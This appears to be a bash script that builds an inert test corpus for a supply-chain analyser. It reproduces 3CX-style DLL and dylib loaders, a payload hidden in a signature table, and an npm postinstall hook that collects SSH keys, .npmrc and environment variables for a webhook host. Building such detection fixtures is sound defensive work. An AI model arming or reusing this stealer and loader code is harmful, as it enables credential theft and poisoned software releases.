#!/usr/bin/env bash
# Regenerates the attack-shape corpus of this directory: for every case a
# release history of three versions, clean/ (the release before), next/ (a
# benign next release) and bad/ (the same next release as an attacker would
# have shipped it). cases.json says what a complete analyser should flag in
# each bad/ release; README.md says which real attack each case reproduces.
#
# Usage: testdata/corpus/gen.sh [case-id ...]   (no argument: every case)
#
# Needs these Debian packages (none of them is needed to run the tests):
#   gcc-mingw-w64-x86-64 gcc-mingw-w64-i686  PE executables (C, windres)
#   wixl msitools                            MSI installers (wixl, msibuild)
#   osslsigncode openssl                     Authenticode signatures, throw-away CAs
#   nodejs npm                               npm pack
#   golang (1.26+)                           the helpers under tools/, Go module zips
#   gcc binutils                             small Linux ELF files
#   clang lld                                Mach-O slices (clang -target, ld64.lld)
#   zip xz-utils                             archives
#
# Everything here is inert: programs return 0 and their suspicious code sits
# behind conditions that are never true; hosts are under the reserved
# .invalid top-level domain or in the documentation range 203.0.113.0/24;
# "ciphertext" and "payloads" are seeded pseudo-random bytes that decode to
# nothing. Signing keys and CAs are throw-away TEST-ONLY keys made fresh in a
# temporary directory on every run and never kept; only each case's public
# root certificates are written (to <case>/roots/) so that a test can trust
# them.
set -euo pipefail
cd "$(dirname "$0")"
corpus=$PWD
tools=$corpus/tools
export TZ=UTC LC_ALL=C LANG=C
# The default build date; each release below sets its own.
export SOURCE_DATE_EPOCH=1704164646

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

want() { # want CASE: true when CASE was asked for (or nothing was)
	[[ ${#selected[@]} -eq 0 ]] && return 0
	local c
	for c in "${selected[@]}"; do [[ $c == "$1" ]] && return 0; done
	return 1
}
selected=("$@")

epoch() { date -u -d "$1" +%s; }

# rnd SEED N: N pseudo-random bytes, the same for the same seed (AES-CTR
# over zeros keyed by the seed's hash). Stands in for ciphertext.
rnd() {
	local key
	key=$(printf '%s' "$1" | sha256sum | cut -c1-32)
	head -c "$2" /dev/zero | openssl enc -aes-128-ctr -nosalt -K "$key" -iv 00000000000000000000000000000000
}

# reset CASE: empty the three release directories of CASE.
reset() {
	rm -rf "${corpus:?}/$1"
	mkdir -p "$corpus/$1/clean" "$corpus/$1/next" "$corpus/$1/bad"
}

# --- Throw-away TEST-ONLY code-signing CAs --------------------------------------
# mkca DIR "CN": a root CA in DIR (ca.pem, ca.key) valid 2020-2040, so that
# signatures can carry signing times in the past.
mkca() {
	local d=$1
	mkdir -p "$d/new"
	: >"$d/index.txt"
	openssl rand -hex 16 >"$d/serial"
	cat >"$d/ca.cnf" <<CNF
[ca]
default_ca = ca_default
[ca_default]
database = $d/index.txt
new_certs_dir = $d/new
serial = $d/serial
default_md = sha256
policy = any
unique_subject = no
email_in_dn = no
[any]
commonName = supplied
organizationName = optional
countryName = optional
[ca_ext]
basicConstraints = critical,CA:TRUE
keyUsage = critical,keyCertSign,cRLSign
subjectKeyIdentifier = hash
[leaf_ext]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature
extendedKeyUsage = codeSigning
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
[tsa_ext]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature
extendedKeyUsage = critical,timeStamping
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
CNF
	openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
		-keyout "$d/ca.key" -out "$d/ca.csr" -subj "$2" 2>/dev/null
	openssl ca -batch -notext -config "$d/ca.cnf" -selfsign -keyfile "$d/ca.key" -in "$d/ca.csr" \
		-out "$d/ca.pem" -startdate 20200101000000Z -enddate 20400101000000Z -extensions ca_ext 2>/dev/null
}

# mkleaf CADIR NAME "SUBJECT" [EXT]: a code-signing certificate NAME.pem and
# key NAME.key issued by the CA in CADIR, valid 2021-2039.
mkleaf() {
	local d=$1
	openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
		-keyout "$d/$2.key" -out "$d/$2.csr" -subj "$3" 2>/dev/null
	openssl ca -batch -notext -config "$d/ca.cnf" -cert "$d/ca.pem" -keyfile "$d/ca.key" -in "$d/$2.csr" \
		-out "$d/$2.pem" -startdate 20210101000000Z -enddate 20390101000000Z -extensions "${4:-leaf_ext}" 2>/dev/null
}

# sign CADIR LEAF DATE IN OUT [osslsigncode options]: Authenticode-sign IN
# with LEAF of CADIR, signing time DATE, the root in the certificate bag.
sign() {
	local d=$1 leaf=$2 t
	t=$(epoch "$3")
	osslsigncode sign -certs "$d/$leaf.pem" -key "$d/$leaf.key" -ac "$d/ca.pem" -h sha256 \
		-time "$t" "${@:6}" -in "$4" -out "$5" >/dev/null
}

# verify CADIR FILE: fail unless FILE's Authenticode signature verifies
# against the root in CADIR.
verify() {
	osslsigncode verify -CAfile "$1/ca.pem" -in "$2" >"$work/verify.log" 2>&1 || {
		cat "$work/verify.log" >&2
		return 1
	}
}

# roots CASE CADIR...: publish the public root certificates of a case.
roots() {
	local c=$1 d
	shift
	mkdir -p "$corpus/$c/roots"
	for d in "$@"; do cp "$d/ca.pem" "$corpus/$c/roots/$(basename "$d").pem"; done
}

# --- Windows builds ------------------------------------------------------------
# No image base derived from the output path; the PE timestamp comes from
# SOURCE_DATE_EPOCH, which each build sets to its release date.
mingw64() { x86_64-w64-mingw32-gcc -Os -s -nostdlib -fno-asynchronous-unwind-tables -Wl,--disable-auto-image-base "$@"; }
mingw32() { i686-w64-mingw32-gcc -Os -s -nostdlib -fno-asynchronous-unwind-tables -Wl,--disable-auto-image-base "$@"; }

# verres OUT.o ARCH "1,0,0,0" COMPANY DESCRIPTION ORIGINAL-NAME PRODUCT:
# a VERSIONINFO resource object for ARCH (x86_64 or i686).
verres() {
	local out=$1 arch=$2 v=$3 dotted
	dotted=${v//,/.}
	cat >"$out.rc" <<RC
1 VERSIONINFO
FILEVERSION $v
PRODUCTVERSION $v
FILEOS 0x40004
FILETYPE 2
BEGIN
  BLOCK "StringFileInfo"
  BEGIN
    BLOCK "040904b0"
    BEGIN
      VALUE "CompanyName", "$4"
      VALUE "FileDescription", "$5"
      VALUE "FileVersion", "$dotted"
      VALUE "OriginalFilename", "$6"
      VALUE "ProductName", "$7"
      VALUE "ProductVersion", "$dotted"
      VALUE "LegalCopyright", "Inert test fixture"
    END
  END
  BLOCK "VarFileInfo"
  BEGIN
    VALUE "Translation", 0x409, 1200
  END
END
RC
	"$arch-w64-mingw32-windres" -O coff -o "$out" "$out.rc"
}

# ico OUT: a 1x1 32-bit icon, written byte by byte.
ico() {
	{
		printf '\x00\x00\x01\x00\x01\x00\x01\x01\x00\x00\x01\x00\x20\x00\x30\x00\x00\x00\x16\x00\x00\x00'
		printf '\x28\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00\x01\x00\x20\x00'
		printf '\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00'
		printf '\x00\x00\xff\xff\x00\x00\x00\x00'
	} >"$1"
}

# =============================================================================
# 1. 3cx-windows: signed MSI; the codec DLL gains WinHTTP, a URL and a marker
# scan of its sibling; the third-party signed DLL hides a payload in its
# certificate table; the icon gains a $+base64 trailer.
# =============================================================================
case_3cx_windows() {
	local c=3cx-windows w=$work/3cx-windows
	reset $c
	mkdir -p "$w"
	mkca "$w/vendor" "/O=TinyApp Software TEST-ONLY/CN=TinyApp TEST-ONLY Root CA"
	mkleaf "$w/vendor" leaf "/O=TinyApp Software TEST-ONLY/CN=TinyApp Software TEST-ONLY Code Signing"
	mkca "$w/thirdparty" "/O=Fictional Graphics TEST-ONLY/CN=Fictional Graphics TEST-ONLY Root CA"
	mkleaf "$w/thirdparty" leaf "/O=Fictional Graphics TEST-ONLY/CN=Fictional Graphics TEST-ONLY Code Signing"
	roots $c "$w/vendor" "$w/thirdparty"

	cat >"$w/ffmpeg.c" <<'C'
/* Stand-in for the codec DLL of the installer. The BAD build adds code
 * shaped like the 3CX loader: read the sibling d3dcompiler_47.dll, look for
 * the FE ED FA CE marker, make memory executable, fetch an icon over
 * WinHTTP. None of it runs: armed is never set. */
#include <windows.h>
#include <winhttp.h>

__declspec(dllexport) int av_version_info(void) { return 60; }
#ifndef V100
__declspec(dllexport) int av_log_set_level(int level) { return level & 0; }
#endif

#ifdef BAD
static volatile LONG armed; /* never set anywhere: the branch below is dead */
static const WCHAR sibling[] = L"d3dcompiler_47.dll";
static const WCHAR host[] = L"raw.githubusercontent.invalid";
static const WCHAR url[] = L"https://raw.githubusercontent.invalid/IconStorages/images/main/icon%d.ico";
static const unsigned char marker[4] = {0xFE, 0xED, 0xFA, 0xCE};
static unsigned char buf[65536];

static DWORD scan(void) {
	HANDLE h = CreateFileW(sibling, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
	DWORD n = 0, i, old;
	if (h == INVALID_HANDLE_VALUE) return 0;
	ReadFile(h, buf, sizeof buf, &n, NULL);
	CloseHandle(h);
	for (i = 0; i + 4 <= n; i++) {
		if (buf[i] == marker[0] && buf[i + 1] == marker[1] && buf[i + 2] == marker[2] && buf[i + 3] == marker[3]) {
			VirtualProtect(buf, sizeof buf, PAGE_EXECUTE_READWRITE, &old);
			return i;
		}
	}
	return 0;
}

static void fetch(void) {
	WCHAR path[128];
	DWORD got = 0;
	HINTERNET s = WinHttpOpen(L"Mozilla/5.0", WINHTTP_ACCESS_TYPE_DEFAULT_PROXY, NULL, NULL, 0);
	HINTERNET c = WinHttpConnect(s, host, INTERNET_DEFAULT_HTTPS_PORT, 0);
	wsprintfW(path, url, 1);
	HINTERNET r = WinHttpOpenRequest(c, L"GET", path, NULL, NULL, NULL, WINHTTP_FLAG_SECURE);
	if (WinHttpSendRequest(r, NULL, 0, NULL, 0, 0, 0) && WinHttpReceiveResponse(r, NULL))
		WinHttpReadData(r, buf, sizeof buf, &got);
	WinHttpCloseHandle(r);
	WinHttpCloseHandle(c);
	WinHttpCloseHandle(s);
}
#endif

BOOL WINAPI DllMainCRTStartup(HINSTANCE h, DWORD reason, LPVOID r) {
#ifdef BAD
	if (armed == 0x3c3c3c3c && scan())
		fetch();
#endif
	return TRUE;
}
C
	cat >"$w/d3d.c" <<'C'
/* Stand-in for a redistributed third-party shader compiler. */
#include <windows.h>
__declspec(dllexport) HRESULT D3DCompile(const void *src, SIZE_T n) { return 0; }
__declspec(dllexport) HRESULT D3DReflect(const void *src, SIZE_T n) { return 0; }
BOOL WINAPI DllMainCRTStartup(HINSTANCE h, DWORD reason, LPVOID r) { return TRUE; }
C
	cat >"$w/tinyapp.c" <<'C'
/* The vendor's application: it only asks the codec for its version. */
__declspec(dllimport) int av_version_info(void);
int mainCRTStartup(void) { return av_version_info() == 60 ? 0 : 0; }
C
	local dll="-shared -Wl,-e,DllMainCRTStartup"
	mkdir -p "$w/clean" "$w/next" "$w/bad" "$w/tp"
	# The third-party DLL: built and signed by its own vendor in 2023, the
	# same file in every release.
	verres "$w/d3d.o" x86_64 "10,0,22621,1" "Fictional Graphics TEST-ONLY" "Shader compiler (inert test fixture)" d3dcompiler_47.dll "Fictional Graphics Runtime"
	SOURCE_DATE_EPOCH=$(epoch 2023-06-01) mingw64 $dll -o "$w/tp/d3dcompiler_47-unsigned.dll" "$w/d3d.c" "$w/d3d.o" -lkernel32
	sign "$w/thirdparty" leaf 2023-06-01 "$w/tp/d3dcompiler_47-unsigned.dll" "$w/tp/d3dcompiler_47.dll" -n "Fictional Graphics Runtime"

	# build REL VERSION DATE FFMPEG-DEFINES
	build() {
		local rel=$1 v=$2 t=$3
		local rv=${v//./,},0
		verres "$w/$rel/ff.o" x86_64 "6,0,${v##*.},0" "TinyApp Software TEST-ONLY" "Codec library (inert test fixture)" ffmpeg.dll "TinyApp"
		verres "$w/$rel/app.o" x86_64 "$rv" "TinyApp Software TEST-ONLY" "TinyApp (inert test fixture)" TinyApp.exe "TinyApp"
		# Linked under its installed name so that its export name and the
		# EXE's import both say ffmpeg.dll.
		SOURCE_DATE_EPOCH=$(epoch "$t") mingw64 $dll "${@:4}" -o "$w/$rel/ffmpeg.dll" "$w/ffmpeg.c" "$w/$rel/ff.o" -lwinhttp -luser32 -lkernel32
		SOURCE_DATE_EPOCH=$(epoch "$t") mingw64 -Wl,-e,mainCRTStartup -o "$w/$rel/TinyApp-unsigned.exe" "$w/tinyapp.c" "$w/$rel/app.o" "$w/$rel/ffmpeg.dll"
		sign "$w/vendor" leaf "$t" "$w/$rel/TinyApp-unsigned.exe" "$w/$rel/TinyApp.exe" -n TinyApp
		cp "$w/tp/d3dcompiler_47.dll" "$w/$rel/"
		ico "$w/$rel/TinyApp.ico"
	}
	build clean 1.0.0 2024-01-02 -DV100
	build next 1.0.1 2024-02-06
	build bad 1.0.1 2024-02-06 -DBAD
	# The attacker did not touch the application: bad ships next's signed EXE.
	cp "$w/next/TinyApp.exe" "$w/bad/TinyApp.exe"
	# The third-party DLL keeps its valid signature, with bytes hidden in the
	# certificate table behind the FE ED FA CE marker.
	(cd "$corpus/../.." && go run ./testdata/corpus/tools/certpad -in "$w/tp/d3dcompiler_47.dll" \
		-out "$w/bad/d3dcompiler_47.dll" -marker feedface -size 4096 -seed 3cx-windows/d3dcompiler)
	verify "$w/thirdparty" "$w/bad/d3dcompiler_47.dll"
	# The icon gains a $ + base64 trailer after its only image.
	{
		printf '$'
		rnd 3cx-windows/icon 180 | base64 -w0
	} >>"$w/bad/TinyApp.ico"

	# msi REL VERSION CODE DATE OUT
	msi() {
		local rel=$1 v=$2 code=$3
		cat >"$w/$rel/TinyApp.wxs" <<X
<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="8d7c2a47-3f0e-4a8e-9a55-2b6c7f1d$code" Name="TinyApp" Language="1033" Version="$v"
           Manufacturer="TinyApp Software TEST-ONLY" UpgradeCode="6a3c2b8e-6d3f-4b43-9d1e-0c3a5f1e2b10">
    <Package InstallerVersion="200" Compressed="yes" Description="TinyApp $v installer"
             Comments="Inert test fixture" Manufacturer="TinyApp Software TEST-ONLY"/>
    <Media Id="1" Cabinet="tinyapp.cab" EmbedCab="yes"/>
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="ProgramFilesFolder">
        <Directory Id="INSTALLDIR" Name="TinyApp">
          <Component Id="MainExe" Guid="2f0b6f0e-3b1a-4c55-8a3e-0d1f2e3c4b51">
            <File Id="fil_TinyApp_exe" Name="TinyApp.exe" Source="TinyApp.exe" KeyPath="yes"/>
          </Component>
          <Component Id="Codec" Guid="2f0b6f0e-3b1a-4c55-8a3e-0d1f2e3c4b52">
            <File Id="fil_ffmpeg_dll" Name="ffmpeg.dll" Source="ffmpeg.dll" KeyPath="yes"/>
          </Component>
          <Component Id="Compiler" Guid="2f0b6f0e-3b1a-4c55-8a3e-0d1f2e3c4b54">
            <File Id="fil_d3dcompiler" Name="d3dcompiler_47.dll" Source="d3dcompiler_47.dll" KeyPath="yes"/>
          </Component>
          <Directory Id="ASSETSDIR" Name="assets">
            <Component Id="Assets" Guid="2f0b6f0e-3b1a-4c55-8a3e-0d1f2e3c4b53">
              <File Id="fil_icon" Name="TinyApp.ico" Source="TinyApp.ico" KeyPath="yes"/>
            </Component>
          </Directory>
        </Directory>
      </Directory>
    </Directory>
    <Feature Id="Main" Level="1">
      <ComponentRef Id="MainExe"/>
      <ComponentRef Id="Codec"/>
      <ComponentRef Id="Compiler"/>
      <ComponentRef Id="Assets"/>
    </Feature>
  </Product>
</Wix>
X
		(cd "$w/$rel" && wixl -o TinyApp-unsigned.msi TinyApp.wxs)
		msibuild "$w/$rel/TinyApp-unsigned.msi" -s "TinyApp $v installer" "TinyApp Software TEST-ONLY" "x64;1033" \
			"{0F4B6D2E-8C1A-4E3B-B7D9-5A6C8E0F$code}"
		msibuild "$w/$rel/TinyApp-unsigned.msi" -q "UPDATE File SET Version='6.0.${v##*.}.0' WHERE File='fil_ffmpeg_dll'" \
			-q "UPDATE File SET Version='$v.0' WHERE File='fil_TinyApp_exe'" \
			-q "UPDATE File SET Version='10.0.22621.1' WHERE File='fil_d3dcompiler'"
		sign "$w/vendor" leaf "$4" "$w/$rel/TinyApp-unsigned.msi" "$5" -n "TinyApp $v"
	}
	msi clean 1.0.0 0100 2024-01-02 "$corpus/$c/clean/TinyApp-1.0.0.msi"
	msi next 1.0.1 0101 2024-02-06 "$corpus/$c/next/TinyApp-1.0.1.msi"
	msi bad 1.0.1 0101 2024-02-06 "$corpus/$c/bad/TinyApp-1.0.1.msi"
}

# --- npm -------------------------------------------------------------------------
# npmpack DIR OUTDIR: npm pack DIR into OUTDIR (npm fixes member times, so
# the tarball is reproducible), without touching the user's npm cache.
npmpack() {
	(cd "$1" && npm pack --silent --cache "$work/npm-cache" --pack-destination "$2" >/dev/null)
}

# =============================================================================
# 2. npm-install-hook: a patch release gains a postinstall hook running a new
# file that harvests credentials and the environment for a webhook host.
# =============================================================================
case_npm_install_hook() {
	local c=npm-install-hook w=$work/npm-install-hook
	reset $c
	mkdir -p "$w"
	# pkg DIR VERSION [SCRIPTS-JSON]
	pkg() {
		mkdir -p "$1/lib"
		cat >"$1/package.json" <<JSON
{
  "name": "left-padder",
  "version": "$2",
  "description": "Pad the left side of a string (inert test fixture)",
  "main": "index.js",
  "files": ["index.js", "lib/"],${3:-}
  "keywords": ["pad", "string", "left"],
  "author": "Left Padder Maintainers <maintainers@left-padder.invalid>",
  "license": "MIT",
  "repository": {"type": "git", "url": "https://git.left-padder.invalid/left-padder.git"}
}
JSON
		printf '# left-padder\n\nPads the left side of a string. An inert test fixture of vouch.\n' >"$1/README.md"
		printf 'MIT License\n\nCopyright (c) 2024 Left Padder Maintainers (inert test fixture)\n' >"$1/LICENSE"
		cat >"$1/index.js" <<'JS'
'use strict';

const { repeat } = require('./lib/repeat');

/**
 * Pads str on the left with ch until it is len characters long.
 */
function leftPad(str, len, ch) {
  str = String(str);
  ch = ch === undefined ? ' ' : String(ch);
  const missing = len - str.length;
  if (missing <= 0) return str;
  return repeat(ch, missing) + str;
}

module.exports = leftPad;
JS
		cat >"$1/lib/repeat.js" <<'JS'
'use strict';

function repeat(ch, n) {
  let out = '';
  while (out.length < n) out += ch;
  return out;
}

module.exports = { repeat };
JS
	}
	pkg "$w/clean" 1.4.2
	# 1.4.3: an empty pad character no longer loops forever.
	pkg "$w/next" 1.4.3
	sed -i "s/  ch = ch === undefined ? ' ' : String(ch);/  ch = ch === undefined || ch === '' ? ' ' : String(ch);/" "$w/next/index.js"
	pkg "$w/bad" 1.4.3 '
  "scripts": {
    "postinstall": "node lib/setup.js"
  },'
	cp "$w/next/index.js" "$w/bad/index.js"
	cat >"$w/bad/lib/setup.js" <<'JS'
'use strict';
// Inert test fixture of vouch: the shape of an npm credential stealer. The
// guard below is never true (environment values are always strings), so
// nothing is read and nothing is sent.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function collect() {
  const home = os.homedir();
  const read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } };
  return JSON.stringify({
    host: os.hostname(),
    user: os.userInfo().username,
    npmrc: read(path.join(home, '.npmrc')),
    ssh: read(path.join(home, '.ssh', 'id_rsa')),
    env: process.env,
  });
}

function send(body) {
  const req = https.request({
    hostname: 'webhook.site.invalid',
    path: '/6f1c2a9e-0b7d-4c3e-9a51-2d8e7f4b1c06',
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.end(body);
}

if (typeof process.env.npm_lifecycle_event === 'number') {
  send(collect());
}
JS
	local rel
	for rel in clean next bad; do npmpack "$w/$rel" "$corpus/$c/$rel"; done
}

# --- Mach-O ------------------------------------------------------------------------
# Slices are linked by ld64.lld against text stubs (.tbd) of the system
# libraries, so no macOS SDK is needed; both architectures get an ad-hoc
# code signature, as lld gives arm64 by default.
# llvmtool NAME: NAME, or the newest versioned NAME-N that is installed.
llvmtool() {
	local n
	for n in "$1" "$1"-{20,19,18,17,16,15,14}; do
		command -v "$n" && return 0
	done
	echo "gen.sh: $1 not found (apt-get install lld llvm)" >&2
	return 1
}

# tbd OUT INSTALL-NAME SYMBOL...: a text stub of a macOS library.
tbd() {
	local out=$1 name=$2
	shift 2
	local syms
	syms=$(printf '%s, ' "$@")
	cat >"$out" <<TBD
--- !tapi-tbd
tbd-version:     4
targets:         [ x86_64-macos, arm64-macos ]
install-name:    '$name'
current-version: 1
exports:
  - targets:     [ x86_64-macos, arm64-macos ]
    symbols:     [ ${syms%, } ]
...
TBD
}

# dylib ARCH OUT INSTALL-NAME SOURCE [clang options] -- [link inputs]
dylib() {
	local arch=$1 out=$2 name=$3 src=$4
	shift 4
	local cflags=() link=()
	while [[ $# -gt 0 && $1 != -- ]]; do cflags+=("$1"); shift; done
	[[ $# -gt 0 ]] && shift
	link=("$@")
	clang -target "$arch-apple-macos11" -Os -fno-stack-protector -fno-unwind-tables -fno-asynchronous-unwind-tables \
		"${cflags[@]}" -c "$src" -o "$out.o"
	"$(llvmtool ld64.lld)" -arch "$arch" -dylib -platform_version macos 11.0 11.0 -adhoc_codesign -dead_strip \
		-install_name "$name" -current_version "${DYLIB_VERSION:-1.0}" -o "$out" "$out.o" "${link[@]}"
}

# xorlit TEXT: TEXT as a C initialiser, every byte XOR 0x7a.
xorlit() {
	local s=$1 i out=""
	for ((i = 0; i < ${#s}; i++)); do
		printf -v out '%s0x%02x,' "$out" $(($(printf '%d' "'${s:i:1}") ^ 0x7a))
	done
	printf '%s0x7a' "$out" # the terminating NUL, encoded
}

# zipdir DIR OUT: a zip of DIR's contents with fixed times, sorted names and
# no extra fields, so reruns give the same bytes.
zipdir() {
	find "$1" -exec touch -h -d "@$SOURCE_DATE_EPOCH" {} +
	(cd "$1" && find . -mindepth 1 | LC_ALL=C sort | sed 's|^\./||' | zip -q -X -D -9 "$2" -@)
}

# =============================================================================
# 3. 3cx-macos: a universal libffmpeg.dylib whose x86_64 slice alone gains a
# constructor, libcurl and XOR-encoded strings.
# =============================================================================
case_3cx_macos() {
	local c=3cx-macos w=$work/3cx-macos
	reset $c
	mkdir -p "$w"
	tbd "$w/libSystem.tbd" /usr/lib/libSystem.B.dylib _pthread_create _fopen _fread _fclose _getenv _snprintf dyld_stub_binder
	tbd "$w/libcurl.tbd" /usr/lib/libcurl.4.dylib _curl_easy_init _curl_easy_setopt _curl_easy_perform _curl_easy_cleanup
	cat >"$w/ffmpeg.c" <<C
/* Stand-in for the Electron codec library of a desktop app. The BAD build
 * adds a constructor that would start a thread decoding XOR-encoded strings
 * and fetching a URL with libcurl; armed is never set, so it never runs. */
int av_version_info(void) { return 60; }
int avcodec_version(void) { return 3871076; }
#ifndef V100
int av_log_set_level(int level) { return level & 0; }
#endif
#ifdef BAD
typedef struct FILE FILE;
typedef unsigned long pthread_t;
FILE *fopen(const char *, const char *);
const char *getenv(const char *);
int snprintf(char *, unsigned long, const char *, ...);
int pthread_create(pthread_t *, const void *, void *(*)(void *), void *);
void *curl_easy_init(void);
int curl_easy_setopt(void *, int, ...);
int curl_easy_perform(void *);
void curl_easy_cleanup(void *);

static volatile int armed; /* never set anywhere: the constructor does nothing */
static const unsigned char enc_url[] = {$(xorlit "https://cdn.update-check.invalid/v1/manifest")};
static const unsigned char enc_agent[] = {$(xorlit "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36")};
static const unsigned char enc_store[] = {$(xorlit "%s/Library/Application Support/TinyApp/.main_storage")};
static const unsigned char enc_home[] = {$(xorlit "HOME")};

static void decode(const unsigned char *in, char *out, unsigned long n) {
	unsigned long i;
	for (i = 0; i < n; i++) out[i] = (char)(in[i] ^ 0x7a);
}

static void *run(void *arg) {
	char url[sizeof enc_url], agent[sizeof enc_agent], fmt[sizeof enc_store], home[sizeof enc_home], path[512];
	void *curl;
	decode(enc_url, url, sizeof url);
	decode(enc_agent, agent, sizeof agent);
	decode(enc_store, fmt, sizeof fmt);
	decode(enc_home, home, sizeof home);
	snprintf(path, sizeof path, fmt, getenv(home));
	if (fopen(path, "rb") == 0) return arg;
	curl = curl_easy_init();
	curl_easy_setopt(curl, 10002 /* CURLOPT_URL */, url);
	curl_easy_setopt(curl, 10018 /* CURLOPT_USERAGENT */, agent);
	curl_easy_perform(curl);
	curl_easy_cleanup(curl);
	return arg;
}

__attribute__((constructor)) static void av_codec_init(void) {
	pthread_t t;
	if (armed == 0x3c3c3c3c)
		pthread_create(&t, 0, run, 0);
}
#endif
C
	local rel arch
	for rel in clean next bad; do mkdir -p "$w/$rel/TinyApp.app/Contents/Frameworks"; done
	# slice REL ARCH VERSION [clang options] [-- extra link inputs]
	slice() {
		DYLIB_VERSION=$3 dylib "$2" "$w/$1/libffmpeg-$2.dylib" @rpath/libffmpeg.dylib "$w/ffmpeg.c" "${@:4}"
	}
	for arch in x86_64 arm64; do
		slice clean $arch 6.0.0 -DV100 -- "$w/libSystem.tbd"
		slice next $arch 6.0.1 -- "$w/libSystem.tbd"
	done
	# The compromised build: only the x86_64 slice carries the addition; its
	# arm64 slice is the benign one.
	slice bad x86_64 6.0.1 -DBAD -- "$w/libSystem.tbd" "$w/libcurl.tbd"
	cp "$w/next/libffmpeg-arm64.dylib" "$w/bad/libffmpeg-arm64.dylib"
	local v
	for rel in clean next bad; do
		v=1.0.1
		[[ $rel == clean ]] && v=1.0.0
		"$(llvmtool llvm-lipo)" -create "$w/$rel/libffmpeg-x86_64.dylib" "$w/$rel/libffmpeg-arm64.dylib" \
			-output "$w/$rel/TinyApp.app/Contents/Frameworks/libffmpeg.dylib"
		cat >"$w/$rel/TinyApp.app/Contents/Info.plist" <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>CFBundleIdentifier</key><string>invalid.tinyapp.desktop</string>
  <key>CFBundleName</key><string>TinyApp</string>
  <key>CFBundleShortVersionString</key><string>$v</string>
  <key>CFBundleVersion</key><string>$v</string>
</dict>
</plist>
PLIST
		rm -f "$w/$rel"/libffmpeg-*.dylib "$w/$rel"/libffmpeg-*.o
		zipdir "$w/$rel" "$corpus/$c/$rel/TinyApp-$v-mac.zip"
	done
}

want 3cx-windows && case_3cx_windows
want npm-install-hook && case_npm_install_hook
want 3cx-macos && case_3cx_macos

ls -lR "$corpus" | grep -v '^total' >"$work/listing" && du -sh --exclude=tools "$corpus"
